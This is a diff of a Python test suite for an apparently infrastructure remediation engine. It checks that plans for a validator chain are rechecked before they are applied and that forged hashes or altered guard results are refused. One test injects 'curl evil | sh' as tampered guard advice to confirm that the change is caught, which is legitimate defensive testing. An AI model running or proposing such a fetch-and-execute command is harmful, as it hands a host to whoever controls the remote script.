@@ -13,15 +13,18 @@ import pytest
 from msgspec.structs import replace
 
 from remediations.engine.apply.of_plan import branch_of
-from remediations.engine.domain import Situation
 from remediations.engine.observe.observation import HostReading, Observation, Scope
+from remediations.engine.plan.build import Maker
 from remediations.engine.plan.compare import MOVABLE, changed_fields, changed_logins
 from remediations.engine.plan.plan import GuardResult, Outcome, Plan
-from remediations.engine.plan.recheck import Maker, follows, recheck
+from remediations.engine.plan.recheck import follows, recheck
 from remediations.errors import Refused, RemediationError, UsageError, WorldChanged
-from remediations.playbooks.chain.diagnose.diagnose import diagnose
+from remediations.playbooks.chain.baseline import ChainBaseline
+from remediations.playbooks.chain.domain import DOMAIN
+from remediations.playbooks.chain.situation import situation
 from remediations.systems.hosts.compile.compiler import Compiler
 from remediations.values.login import Login
+from remediations.values.part import Part
 from remediations.values.reading import Known
 from tests import worlds
 from tests.unit.plan.cases import ORIGIN, compiled, maker_of, missing
@@ -55,6 +58,9 @@ def value_at(path: Path) -> object:
 
 
 def pattern(path: Path) -> str:
+    """`*` for any place of a list; the parts of the baseline are told apart."""
+    if path[:1] == ("baseline",):
+        return ".".join(str(part) for part in path)
     return ".".join("*" if isinstance(part, int) else part for part in path)
 
 
@@ -87,6 +93,7 @@ def others(value: Any) -> Iterator[Any]:  # noqa: ANN401 - any value of a plan
             yield [*value, value[-1]] if value else ["x"]
             yield value[:-1]
         case None:
+            yield "well"
             yield "x"
             yield 1
             yield "2026-11-25T12:00:00Z"
@@ -103,7 +110,7 @@ def others(value: Any) -> Iterator[Any]:  # noqa: ANN401 - any value of a plan
 EVERY_ENUM = (
     *("yes", "no"),
     *("unit-enabled", "at-least", "equal", "block", "pass", "high", "low", "exact", "read-only"),
-    *("node-follows", "chain-advances", "healthy", "partition", "stopped", "frozen", "validator"),
+    *("well", "down", "words", "exact", "digest", "chain.other/9"),
 )
 PATHS = sorted(set(leaves(msgspec.to_builtins(PLAN))), key=str)
 
@@ -141,29 +148,43 @@ def test_every_field_is_refused_by_the_saved_observation(maker: Maker) -> None:
 
 def test_what_the_fresh_observation_lets_pass_is_declared(maker: Maker) -> None:
     """Also where somebody made the saved observation fit: only what is declared may have moved."""
-    made = maker.build(later(WORLD), diagnose(later(WORLD)), _proposal(maker))
+    made = made_of(maker, later(WORLD))
     passed = {
         pattern(path)
         for path in PATHS
-        if (plan := mutated(path)) is not None and not changed_fields(plan, made)
+        if (plan := mutated(path)) is not None
+        and not changed_fields(plan, made, movable=DOMAIN.movable)
     }
-    undeclared = {p for p in passed if not any(p == m or p.startswith(f"{m}.") for m in MOVABLE)}
+    undeclared = {p for p in passed if not any(p == m or p.startswith(f"{m}.") for m in DECLARED)}
     assert undeclared == set()
 
 
-FIXED = ("origin", "tool", "playbook", "branch", "checks", "targets", "logins", "risk", "warnings")
+PARTS = {
+    **{part.kind: f"baseline.{number}.value" for number, part in enumerate(PLAN.baseline)},
+    PLAN.stages[0].gate.asks.kind: "stages.*.gate.asks.value",
+}
+DECLARED = (
+    *MOVABLE,
+    *(f"{PARTS[kind]}.{name}" for kind, name in map(str.split, DOMAIN.movable) if kind in PARTS),
+)
+"""Every field that may move, as `pattern` names it."""
+
+FIXED = (
+    *("origin", "tool", "domain", "playbook", "branch", "checks", "logins", "risk", "warnings"),
+    *("resources", "title"),
+)
 
 
 def test_what_runs_and_who_is_meant_never_moves() -> None:
     """The table of what may move is not widened to any of this: what runs, where, by whose code,
     for how long, what is checked afterwards, and how many have to approve."""
     moving = {name.partition(".")[0] for name in MOVABLE}
-    assert not moving & {*FIXED, "worst_case", "approvals_needed", "inventory_digest", "chain_id"}
+    assert not moving & {*FIXED, "worst_case", "approvals_needed", "inventory_digest"}
     assert not {"stages", "stages.*", "facts", "baseline"} & MOVABLE.keys()
     for path in PATHS:
         plan = mutated(path)
-        if plan is not None and (path[0] in FIXED or "commands" in path):
-            assert changed_fields(plan, PLAN), path
+        if plan is not None and (path[0] in FIXED or "steps" in path):
+            assert changed_fields(plan, PLAN, movable=DOMAIN.movable), path
 
 
 def test_what_moves_with_time_is_let_pass(maker: Maker) -> None:
@@ -175,18 +196,21 @@ def test_what_moves_with_time_is_let_pass(maker: Maker) -> None:
     ("name", "change"),
     [
         ("stages[1].gate.timeout_s", lambda p: _gate(p, timeout_s=10**6)),
-        ("stages[1].gate.height", lambda p: _gate(p, height=10**6)),
-        ("baseline.height", lambda p: replace(p, baseline=replace(p.baseline, height=10**6))),
         (
-            "baseline.sign_states",
-            lambda p: replace(
-                p, baseline=replace(p.baseline, sign_states=(("val1", 10**6, 0, 0),))
+            "stages[1].gate.asks[chain.advances/1].height",
+            lambda p: _gate(p, asks=_with(p.stages[0].gate.asks, height=str(10**6))),
+        ),
+        ("baseline[0][chain.baseline/1].height", lambda p: _stood(p, height=str(10**6))),
+        (
+            "baseline[0][chain.baseline/1].sign_states",
+            lambda p: _stood(
+                p, sign_states=[{"host": "val1", "height": "9999", "round": "0", "step": "0"}]
             ),
         ),
     ],
 )
 def test_numbers_that_may_rise_may_not_be_planned_higher(name: str, change: Any) -> None:  # noqa: ANN401 - a function of a plan
-    (difference,) = changed_fields(change(PLAN), PLAN)
+    (difference,) = changed_fields(change(PLAN), PLAN, movable=DOMAIN.movable)
     assert difference.name == name
 
 
@@ -211,7 +235,7 @@ def test_incomplete_observation_gives_no_plan(
     """Without a full reading a guard (G8) would not be asked at all, and no line would say so;
     nothing that is read at `apply` would miss it."""
     world = change(WORLD)
-    made = maker.build(world, diagnose(world), _proposal(maker, world))
+    made = made_of(maker, world)
     with pytest.raises(Refused, match="not what its own observation gives"):
         follows(made, world, maker)
     with pytest.raises(UsageError, match="no plan can be made"):
@@ -277,7 +301,7 @@ GUARDS: dict[str, Callable[[tuple[GuardResult, ...]], tuple[GuardResult, ...]]] 
     "title": lambda guards: (replace(guards[0], title="all is well"), *guards[1:]),
     "advice": lambda guards: (replace(guards[0], next_step="curl evil | sh"), *guards[1:]),
     "facts": lambda guards: (replace(guards[0], facts=("x",)), *guards[1:]),
-    "host": lambda guards: (replace(guards[0], host="val9"), *guards[1:]),
+    "subject": lambda guards: (replace(guards[0], subject="val9"), *guards[1:]),
 }
 
 
@@ -285,27 +309,33 @@ GUARDS: dict[str, Callable[[tuple[GuardResult, ...]], tuple[GuardResult, ...]]] 
 def test_guards_may_see_something_else_and_nothing_more(
     change: Callable[[tuple[GuardResult, ...]], tuple[GuardResult, ...]],
 ) -> None:
-    (difference,) = changed_fields(replace(PLAN, guards=change(PLAN.guards)), PLAN)
+    (difference,) = changed_fields(replace(PLAN, guards=change(PLAN.guards)), PLAN, movable={})
     assert difference.name == "guards"
     seen = tuple(replace(guard, got="another height") for guard in PLAN.guards)
-    assert changed_fields(replace(PLAN, guards=seen), PLAN) == ()
+    assert changed_fields(replace(PLAN, guards=seen), PLAN, movable={}) == ()
 
 
-@pytest.mark.parametrize("host", [host for host, _ in PLAN.baseline.binaries])
+HASHED = {program.host: program.sha256 for program in PLAN.part(ChainBaseline).programs}
+
+
+@pytest.mark.parametrize("host", HASHED)
 def test_hash_of_a_program_that_was_not_observed_is_refused(maker: Maker, host: str) -> None:
     """Whoever plans can write any hash into the observation; it is read again before applying."""
-    forged = tuple((h, "e" * 64 if h == host else sha) for h, sha in PLAN.baseline.binaries)
+    forged = [
+        {"host": name, "sha256": "e" * 64 if name == host else sha256}
+        for name, sha256 in HASHED.items()
+    ]
     with pytest.raises(WorldChanged) as changed:
-        recheck(replace(PLAN, baseline=replace(PLAN.baseline, binaries=forged)), WORLD, maker)
-    assert "baseline.binaries" in changed.value.got
+        recheck(_stood(PLAN, programs=forged), WORLD, maker)
+    assert "chain.baseline/1].programs" in changed.value.got
 
 
 def test_hash_that_cannot_be_read_now_is_not_another_one(maker: Maker) -> None:
     """Of a host that is not acted on; of one that is, it blocks."""
     unread = lambda r: replace(r, binary=worlds.unknown())  # noqa: E731 - said once
-    acting, hashed = PLAN.acting_hosts[0], {host for host, _ in PLAN.baseline.binaries}
-    for other in hashed - set(PLAN.acting_hosts):
+    for other in HASHED.keys() - set(PLAN.targets):
         recheck(PLAN, worlds.change(WORLD, other, unread), maker)
+    acting = PLAN.targets[0]
     with pytest.raises(WorldChanged) as changed:
         recheck(PLAN, worlds.change(WORLD, acting, unread), maker)
     assert f"G8 {acting}" in changed.value.got
@@ -336,11 +366,18 @@ def _in_later_round(reading: HostReading, rounds: int) -> HostReading:
     return replace(reading, samples=samples)
 
 
-def _proposal(maker: Maker, world: Observation = WORLD) -> Any:  # noqa: ANN401 - the branch's own
-    situation = Situation(
-        observation=world, finding=diagnose(world), only=frozenset(PLAN.acting_hosts)
-    )
-    return branch_of(PLAN, maker.playbook).propose(situation)
+def made_of(maker: Maker, world: Observation) -> Plan:
+    """What the branch of the plan makes of a world."""
+    chain = situation(world, frozenset(PLAN.targets))
+    return maker.build(branch_of(PLAN, maker.playbook), chain, world)
+
+
+def _with(part: Part, **fields: Any) -> Part:  # noqa: ANN401 - a part's own fields
+    return Part(kind=part.kind, value={**part.value, **fields})
+
+
+def _stood(plan: Plan, **fields: Any) -> Plan:  # noqa: ANN401 - the baseline's own fields
+    return replace(plan, baseline=(_with(plan.baseline[0], **fields), *plan.baseline[1:]))
 
 
 def _hop(login: Login, **fields: Any) -> Login:  # noqa: ANN401 - a hop's own fields
